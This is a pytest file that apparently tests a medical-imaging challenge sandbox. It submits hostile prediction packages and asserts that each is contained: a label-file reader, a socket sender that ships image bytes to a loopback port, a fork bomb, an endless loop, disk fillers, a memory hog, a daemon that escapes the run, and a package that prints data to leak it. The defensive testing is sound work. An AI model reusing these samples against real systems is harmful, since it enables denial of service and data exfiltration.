"""Hostile python-package submissions are contained, categorised, and leave the board intact.

All of them go into one challenge with an honest team and are evaluated in one queue run (a
worker start costs about a second for this format); each test then checks one of them.
"""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

import pytest
from challenge_helpers import HONEST, namespaces_or_skip, spec_dict, write_package

from medai_lab.challenge.worker import CATEGORIES

MARK = "SANDBOX-LEAK-7f3a"
SLOW = ("forker", "spinner")


def _packages(tmp: Path, phases: dict[str, Path], port: int) -> dict[str, Path]:
    labels = phases["test"] / "labelsTr"
    targets = [str(p) for p in sorted(labels.iterdir())] + [str(labels), str(tmp / "hack")]
    return {
        "honest": write_package(tmp / "honest", HONEST),
        "peeker": write_package(
            tmp / "peeker",
            f"""
            import os
            import numpy as np
            TARGETS = {targets!r}

            def predict(image, affine, context):
                # 1 everywhere if any label file, the label folder or the challenge can be read
                for target in TARGETS:
                    try:
                        if os.path.isdir(target):
                            os.listdir(target)
                        else:
                            with open(target, "rb") as fh:
                                fh.read(16)
                        return np.ones(image.shape, np.uint8)
                    except OSError:
                        pass
                return np.zeros(image.shape, np.uint8)
            """,
        ),
        "netcat": write_package(
            tmp / "netcat",
            f"""
            import socket

            def predict(image, affine, context):
                with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                    s.sendall(image.tobytes()[:1000])
                raise RuntimeError("sent the image")
            """,
        ),
        "forker": write_package(
            tmp / "forker",
            """
            import os

            def predict(image, affine, context):
                while True:  # every child forks again, without end
                    try:
                        os.fork()
                    except OSError:
                        pass
            """,
        ),
        "spinner": write_package(
            tmp / "spinner",
            """
            def predict(image, affine, context):
                while True:
                    pass
            """,
        ),
        "hoarder": write_package(
            tmp / "hoarder",
            """
            def predict(image, affine, context):
                block = b"x" * 2**20
                with open("huge.bin", "wb") as fh:
                    for _ in range(4096):  # 4 GiB if nothing stops it
                        fh.write(block)
            """,
        ),
        "litter": write_package(
            tmp / "litter",
            """
            import numpy as np

            def predict(image, affine, context):
                block = b"x" * 2**20
                for i in range(30):  # 30 files of 1 MiB: each under the file-size limit
                    with open(f"junk{i}.bin", "wb") as fh:
                        fh.write(block)
                return np.zeros(image.shape, np.uint8)
            """,
        ),
        "shapeless": write_package(
            tmp / "shapeless",
            """
            import numpy as np

            def predict(image, affine, context):
                return np.zeros((2, 2, 2), np.uint8)
            """,
        ),
        "broken": write_package(
            tmp / "broken",
            """
            import numpy as np

            def setup(folder):
                return np.load(folder / "weights.npy")

            def predict(image, affine, weights):
                return np.zeros(image.shape, np.uint8)
            """,
            **{"weights.npy": b"\x93NUMPY\x01\x00garbage that is not an array header"},
        ),
        "hog": write_package(
            tmp / "hog",
            """
            import numpy as np

            def predict(image, affine, context):
                return np.ones((2**34,), np.uint8)  # 16 GiB
            """,
        ),
        "escaper": write_package(
            tmp / "escaper",
            """
            import os
            import time
            import numpy as np

            def predict(image, affine, context):
                if os.fork() == 0:  # a daemon in its own session, meant to outlive the run
                    os.setsid()
                    time.sleep(600)
                    os._exit(0)
                return np.zeros(image.shape, np.uint8)
            """,
        ),
    }


@pytest.fixture(scope="module")
def board(tmp_path_factory: pytest.TempPathFactory, phases: dict[str, Path]) -> dict[str, Any]:
    """Every package submitted by its own team to the hidden phase, then one evaluation run."""
    from medai_lab.challenge import Challenge

    tmp = tmp_path_factory.mktemp("adversarial")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    port = listener.getsockname()[1]
    ch = Challenge.create(tmp / "hack", spec_dict(phases, time_per_case_s=5))
    ids = {}
    for team, folder in _packages(tmp, phases, port).items():
        # the slow ones (every case waits for its timeout) on the 2-case phase
        phase = "validation" if team in SLOW else "test"
        ids[team] = ch.submit(folder, team=team, phase=phase)["id"]
    results = {r["team"]: r for r in ch.evaluate(track=False)}
    try:
        listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    finally:
        listener.close()
    return {"challenge": ch, "ids": ids, "results": results, "connected": connected}


def _statuses(board: dict[str, Any], team: str) -> list[str]:
    return sorted({row["status"] for row in board["results"][team]["cases"]})


def test_every_submission_was_scored(board: dict[str, Any]) -> None:
    results = board["results"]
    assert set(results) == set(board["ids"])
    for team, res in results.items():
        assert res["status"] == "scored", team
        assert res["score"]["n_cases"] == (2 if team in SLOW else 3), team


def test_label_files_cannot_be_read(board: dict[str, Any]) -> None:
    namespaces_or_skip()
    res = board["results"]["peeker"]
    # predict() ran on every case (ok) and every read failed (it predicted nothing)
    assert _statuses(board, "peeker") == ["ok"]
    assert all(row["pred_voxels"] == 0 for row in res["cases"])
    assert res["score"]["dice_mean"] == 0.0


def test_network_is_unreachable(board: dict[str, Any]) -> None:
    namespaces_or_skip()
    assert not board["connected"], "the sandbox reached a loopback server of the host"
    assert _statuses(board, "netcat") == ["network"]


def test_fork_bomb_and_endless_loop_time_out(board: dict[str, Any]) -> None:
    assert _statuses(board, "forker") == ["timeout"]
    assert _statuses(board, "spinner") == ["timeout"]


def test_huge_output_is_stopped(board: dict[str, Any]) -> None:
    assert _statuses(board, "hoarder") == ["output_too_large"]
    assert _statuses(board, "litter") == ["output_too_large"]


def test_wrong_shape_corrupt_weights_and_memory_hog(board: dict[str, Any]) -> None:
    assert _statuses(board, "shapeless") == ["invalid_output"]
    assert _statuses(board, "broken") == ["crash"]
    assert _statuses(board, "hog") == ["oom"]


def test_escaped_daemon_does_not_survive(board: dict[str, Any]) -> None:
    assert _statuses(board, "escaper") == ["ok"]
    # the autouse fixture asserts that no sandbox process is left anywhere


def test_failures_carry_no_text(board: dict[str, Any]) -> None:
    ch = board["challenge"]
    for team, sid in board["ids"].items():
        team_view = ch.result(sid, team=team)
        assert "notes" not in team_view
        # hidden phase: aggregates only; visible phase: per-case rows of fixed columns
        assert ("cases" in team_view) == (team in SLOW)
        statuses = {row["status"] for row in team_view.get("cases", [])}
        assert statuses | set(team_view["score"]["failures"]) <= {"ok", *CATEGORIES}


def test_leaderboard_intact(board: dict[str, Any]) -> None:
    from medai_lab.challenge.leaderboard import format_table, to_html

    ch = board["challenge"]
    table = ch.leaderboard("test")
    assert table["team"].iloc[0] == "honest"
    assert set(table["team"]) == set(board["ids"]) - set(SLOW)
    assert table["dice"].iloc[0] > 0.3
    assert (table["dice"].iloc[1:] <= table["dice"].iloc[0]).all()
    assert (table["n_cases"] == 3).all()
    assert set(ch.leaderboard("validation")["team"]) == set(SLOW)
    text = format_table(table, ch.spec, ch.spec.phase("test"))
    assert "honest" in text and "hidden test set" in text
    page = to_html(table, ch.spec, ch.spec.phase("test"))
    assert page.count("<tr>") == len(table) + 1


def test_printed_image_data_goes_nowhere(
    make_challenge: Any, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    ch = make_challenge()
    pkg = write_package(
        tmp_path / "chatty",
        f"""
        import sys
        import numpy as np

        def predict(image, affine, context):
            print("{MARK}", image.tobytes()[:4096])
            print("{MARK}", repr(image[::4, ::4, ::4]), file=sys.stderr)
            return (image > 40).astype(np.uint8)
        """,
    )
    sid = ch.submit(pkg, team="chatty", phase="validation")["id"]
    (res,) = ch.evaluate(track=False)
    assert res["status"] == "scored" and res["score"]["n_failed"] == 0
    out, err = capfd.readouterr()
    assert MARK not in out and MARK not in err
    for path in ch.root.rglob("*"):  # database, results, stored submission (holds the source)
        if path.is_file() and "submissions" not in path.parts:
            assert MARK.encode() not in path.read_bytes(), path
    assert ch.result(sid, team="chatty")["cases"]
